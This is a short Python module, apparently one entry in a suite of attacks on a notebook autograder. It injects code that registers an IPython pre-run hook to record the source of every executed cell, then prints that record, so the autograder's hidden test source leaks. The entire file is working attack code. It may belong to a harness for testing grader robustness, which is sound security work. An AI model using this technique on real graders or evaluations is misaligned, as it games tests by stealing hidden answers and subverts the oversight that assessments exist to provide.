"""Listens to every cell that runs, to print the hidden tests' source."""

from attacks.tools import after, before


def attack(notebook, folder, school):
    before(
        notebook,
        """
seen = []
get_ipython().events.register('pre_run_cell', lambda info: seen.append(info.raw_cell))
""",
    )
    after(
        notebook,
        """
print(seen)
""",
    )
